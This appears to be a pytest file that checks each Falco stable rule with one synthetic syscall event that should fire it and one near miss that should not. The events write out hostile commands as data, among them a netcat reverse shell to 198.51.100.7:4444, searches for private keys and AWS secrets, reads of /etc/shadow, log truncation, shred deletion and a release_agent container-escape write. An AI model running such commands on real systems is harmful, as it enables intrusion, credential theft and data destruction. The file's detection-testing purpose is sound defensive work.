"""Falco's stable rules (../shared/falco-rules/falco_rules.yaml), one by one.

For every enabled rule: one event written here that makes it fire, and one near miss (the
same story with the detail that matters changed) that must not.  The events go through the
replay path (JSON line -> Event -> enrichment -> rules) exactly as `sysward replay` runs them.
The rule file is read from ../shared at test time; no rule text is copied here.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import orjson
import pytest
import yaml

from sysward.cli.replay_cmd import replay_events
from sysward.enrich import Enricher
from sysward.rules import load_rules

RULES_FILE = Path(__file__).parents[2] / ".." / "shared" / "falco-rules" / "falco_rules.yaml"

pytestmark = pytest.mark.skipif(not RULES_FILE.exists(), reason=f"{RULES_FILE} not present")

T0 = 1_700_000_000_000_000_000
SEC = 1_000_000_000
CID = "3f2a9c1b7d4e"  # a container id
ALL_CAPS = (1 << 41) - 1
CAP_DAC_OVERRIDE, CAP_SYS_MODULE, CAP_SYS_ADMIN = 1 << 1, 1 << 16, 1 << 21
DOCKER_DEFAULT_CAPS = 0xA80425FB
O_WRONLY, O_TRUNC, O_APPEND = 0o1, 0o1000, 0o2000


def proc(comm: str, argv: list[str] | None = None, *, exepath: str = "",
         parent: dict[str, Any] | None = None, container: str = "host", image: str = "",
         pid: int = 4242, **extra: Any) -> dict[str, Any]:
    d: dict[str, Any] = {"pid": pid, "comm": comm, "argv": argv or [comm],
                         "exepath": exepath or f"/usr/bin/{comm}", "container_id": container,
                         "container_image": image, "start_time": T0 - 600 * SEC, **extra}
    if parent is not None:
        d["parent"] = parent
    return d


SSHD = proc("sshd", ["sshd: alice [priv]"], exepath="/usr/sbin/sshd", pid=900)
BASH = proc("bash", ["-bash"], exepath="/usr/bin/bash", pid=1000, parent=SSHD)
NGINX = proc("nginx", ["nginx", "-g", "daemon off;"], exepath="/usr/sbin/nginx", pid=700,
             parent=proc("systemd", ["/sbin/init"], pid=1))
RUNC = proc("runc", ["runc", "init"], exepath="/usr/bin/runc", pid=600)
CSHELL = proc("sh", ["sh"], exepath="/bin/sh", pid=610, container=CID,
              image="docker.io/library/alpine:3.19", parent=RUNC)


def event(etype: str, p: dict[str, Any], args: dict[str, Any] | None = None, *,
          res: int = 0, **header: Any) -> dict[str, Any]:
    return {"ts": T0, "type": etype, "pid": p["pid"], "tid": p["pid"], "comm": p["comm"],
            "ppid": p.get("parent", {}).get("pid", 1), "euid": 0, "uid": 0,
            "start_time": p["start_time"], "res": res, "args": args or {}, "proc": p,
            **header}


def execve(p: dict[str, Any], **header: Any) -> dict[str, Any]:
    return event("execve", p, {"filename": p["exepath"], "argv": p["argv"], "cwd": "/root",
                               "exe_flags": p.get("exe_flags", 0)}, **header)


def openat(p: dict[str, Any], name: str, flags: int, res: int = 3) -> dict[str, Any]:
    return event("openat", p, {"name": name, "flags": flags, "mode": 0, "dirfd": -100}, res=res)


def in_container(comm: str, argv: list[str] | None = None, **kw: Any) -> dict[str, Any]:
    kw.setdefault("image", "docker.io/library/alpine:3.19")
    kw.setdefault("parent", CSHELL)
    return proc(comm, argv, container=CID, **kw)


def ssh_connect(port: int) -> dict[str, Any]:
    p = proc("ssh", ["ssh", "-p", str(port), "alice@203.0.113.10"], parent=BASH)
    return event("connect", p, {"fd": 3, "family": 2, "addr": "203.0.113.10", "port": port,
                                "saddr": "192.0.2.5", "sport": 50022, "sotype": 1, "proto": 6})


def k8s_connect(image: str) -> dict[str, Any]:
    p = in_container("curl", ["curl", "https://kubernetes.default"], image=image)
    return event("connect", p, {"fd": 5, "family": 2, "addr": "10.96.0.1", "port": 443,
                                "saddr": "172.17.0.2", "sport": 41000, "sotype": 1,
                                "proto": 6, "addr_name": "kubernetes.default.svc.cluster.local"})


def dup2(fd_type: str) -> dict[str, Any]:
    p = in_container("bash", ["bash", "-i"])
    return event("dup2", p, {"oldfd": 3, "newfd": 0, "fd_type": fd_type, "family": 2,
                             "addr": "198.51.100.7", "port": 4444, "saddr": "172.17.0.2",
                             "sport": 39000}, res=0)


def ptrace(request: int) -> dict[str, Any]:
    return event("ptrace", proc("injector", ["./injector", "1234"], parent=BASH),
                 {"request": request, "pid": 1234})


# rule name -> (event that fires it, near miss that must not)
CASES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "Directory traversal monitored file read": (
        openat(proc("php-fpm", parent=NGINX), "/var/www/html/../../../etc/passwd", 0),
        openat(proc("php-fpm", parent=NGINX), "/etc/passwd", 0),
    ),
    "Read sensitive file trusted after startup": (
        openat(NGINX, "/etc/shadow", 0),
        openat(dict(NGINX, start_time=T0 - 2 * SEC), "/etc/shadow", 0),  # just started
    ),
    "Read sensitive file untrusted": (
        openat(proc("stealer", parent=BASH), "/etc/shadow", 0),
        openat(proc("sshd", parent=BASH), "/etc/shadow", 0),  # a trusted reader
    ),
    "Run shell untrusted": (
        execve(proc("bash", ["bash", "-c", "id"], parent=NGINX)),
        execve(proc("bash", ["bash", "-c", "id"], parent=SSHD)),
    ),
    "System user interactive": (
        execve(proc("bash", ["bash"], parent=SSHD, user="www-data"), euid=33),
        execve(proc("bash", ["bash"], parent=SSHD, user="alice"), euid=1000),
    ),
    "Terminal shell in container": (
        execve(in_container("bash", ["bash"], parent=RUNC), tty=34816),
        execve(in_container("bash", ["bash"], parent=RUNC), tty=0),
    ),
    "Contact K8S API Server From Container": (
        k8s_connect("docker.io/library/alpine:3.19"),
        k8s_connect("docker.io/sysdig/sysdig:0.36"),  # a known k8s image
    ),
    "Netcat Remote Code Execution in Container": (
        execve(in_container("nc", ["nc", "-e", "/bin/sh", "198.51.100.7", "4444"])),
        execve(in_container("nc", ["nc", "-z", "198.51.100.7", "4444"])),
    ),
    "Search Private Keys or Passwords": (
        execve(proc("find", ["find", "/", "-name", "id_rsa"], parent=BASH)),
        execve(proc("find", ["find", "/", "-name", "*.log"], parent=BASH)),
    ),
    "Clear Log Activities": (
        openat(proc("truncate", parent=BASH), "/var/log/syslog", O_WRONLY | O_TRUNC),
        openat(proc("logger", parent=BASH), "/var/log/syslog", O_WRONLY | O_APPEND),
    ),
    "Remove Bulk Data from Disk": (
        execve(proc("shred", ["shred", "-u", "/srv/db.sqlite"], parent=BASH)),
        execve(proc("rm", ["rm", "/srv/db.sqlite"], parent=BASH)),
    ),
    "Create Symlink Over Sensitive Files": (
        event("symlinkat", proc("ln", parent=BASH), {"target": "/etc/shadow",
                                                     "linkpath": "/tmp/s"}),
        event("symlinkat", proc("ln", parent=BASH), {"target": "/etc/hosts",
                                                     "linkpath": "/tmp/s"}),
    ),
    "Create Hardlink Over Sensitive Files": (
        event("linkat", proc("ln", parent=BASH), {"oldpath": "/etc/shadow",
                                                  "newpath": "/tmp/s", "flags": 0}),
        event("linkat", proc("ln", parent=BASH), {"oldpath": "/etc/hosts",
                                                  "newpath": "/tmp/s", "flags": 0}),
    ),
    "Packet socket created in container": (
        event("socket", in_container("sniffer"), {"domain": 17, "type": 3, "proto": 768},
              res=4),
        event("socket", in_container("sniffer"), {"domain": 2, "type": 1, "proto": 6}, res=4),
    ),
    "Redirect STDOUT/STDIN to Network Connection in Container": (
        dup2("4"),
        dup2("f"),  # stdin from a file, not a socket
    ),
    "Linux Kernel Module Injection Detected": (
        event("finit_module", in_container("insmod", cap_effective=CAP_SYS_MODULE),
              {"fd": 3, "uargs": ""}),
        event("finit_module", in_container("insmod", cap_effective=DOCKER_DEFAULT_CAPS),
              {"fd": 3, "uargs": ""}, res=-1),
    ),
    "Debugfs Launched in Privileged Container": (
        execve(in_container("debugfs", ["debugfs", "/dev/sda1"], cap_effective=ALL_CAPS)),
        execve(in_container("debugfs", ["debugfs", "/dev/sda1"],
                            cap_effective=DOCKER_DEFAULT_CAPS)),
    ),
    "Detect release_agent File Container Escapes": (
        openat(in_container("sh", cap_effective=CAP_SYS_ADMIN | CAP_DAC_OVERRIDE),
               "/tmp/cgrp/release_agent", O_WRONLY),
        openat(in_container("sh", cap_effective=CAP_DAC_OVERRIDE),
               "/tmp/cgrp/release_agent", O_WRONLY),
    ),
    "PTRACE attached to process": (ptrace(16), ptrace(2)),  # ATTACH vs PEEKDATA
    "PTRACE anti-debug attempt": (ptrace(0), ptrace(16)),  # TRACEME vs ATTACH
    "Find AWS Credentials": (
        execve(proc("grep", ["grep", "-ri", "aws_secret_access_key", "/home"], parent=BASH)),
        execve(proc("grep", ["grep", "-ri", "TODO", "/home"], parent=BASH)),
    ),
    "Execution from /dev/shm": (
        execve(proc("x", ["/dev/shm/x"], exepath="/dev/shm/x", parent=BASH)),
        execve(proc("x", ["/usr/local/bin/x"], exepath="/usr/local/bin/x", parent=BASH)),
    ),
    "Drop and execute new binary in container": (
        execve(in_container("miner", ["./miner"], exe_flags=2)),
        execve(in_container("miner", ["./miner"], exe_flags=0)),
    ),
    "Disallowed SSH Connection Non Standard Port": (ssh_connect(443), ssh_connect(22)),
    "Fileless execution via memfd_create": (
        execve(proc("payload", ["payload"], exepath="memfd:payload (deleted)", exe_flags=1,
                    parent=BASH)),
        execve(proc("runc", ["runc", "init"], exepath="memfd:runc_cloned:/proc/self/exe",
                    exe_flags=1, parent=BASH)),  # the runtime's known memfd re-exec
    ),
}


def _enabled_rules() -> list[str]:
    items = yaml.safe_load(RULES_FILE.read_text())
    return [i["rule"] for i in items if isinstance(i, dict) and "rule" in i
            and i.get("enabled", True) is not False]


@pytest.fixture(scope="module")
def ruleset() -> Any:
    result = load_rules([str(RULES_FILE)])
    assert not result.errors, [str(d) for d in result.errors]
    return result.ruleset


def _fired(ruleset: Any, ev: dict[str, Any]) -> list[str]:
    names: list[str] = []
    stats = replay_events([orjson.dumps(ev)], ruleset.match, lambda r, e: r.name, names.append,
                          Enricher(seed_from_proc=False).process)
    assert stats.events == 1 and stats.bad_lines == 0 and stats.eval_errors == 0
    return names


def test_every_enabled_stable_rule_has_a_case() -> None:
    assert sorted(CASES) == sorted(_enabled_rules())


@pytest.mark.parametrize("rule", sorted(CASES))
def test_rule_fires(ruleset: Any, rule: str) -> None:
    assert rule in _fired(ruleset, CASES[rule][0])


@pytest.mark.parametrize("rule", sorted(CASES))
def test_near_miss_does_not_fire(ruleset: Any, rule: str) -> None:
    assert rule not in _fired(ruleset, CASES[rule][1])


def test_alert_output_renders_fields(ruleset: Any) -> None:
    from sysward.rules import alert_for

    ev_dict = CASES["Clear Log Activities"][0]
    alerts: list[Any] = []
    replay_events([orjson.dumps(ev_dict)], ruleset.match,
                  lambda r, e: alert_for(r, e, "node1"), alerts.append,
                  Enricher(seed_from_proc=False).process)
    alert = next(a for a in alerts if a.rule == "Clear Log Activities")
    assert "file=/var/log/syslog" in alert.output
    assert "process=truncate" in alert.output and "parent=bash" in alert.output
    assert alert.output_fields["fd.name"] == "/var/log/syslog"
    assert alert.hostname == "node1"


def test_rules_bench_runs_on_a_small_stream() -> None:
    from sysward.bench.rules_bench import run_rules_bench, synthetic_pool

    result = run_rules_bench([str(RULES_FILE)], events=3000, pool=synthetic_pool(1000))
    assert result.events == 3000 and result.events_per_s > 0
    assert 0 < result.rules_evaluated_per_event < result.rules
    assert result.alerts > 0  # the mix contains sensitive reads and ptrace attaches
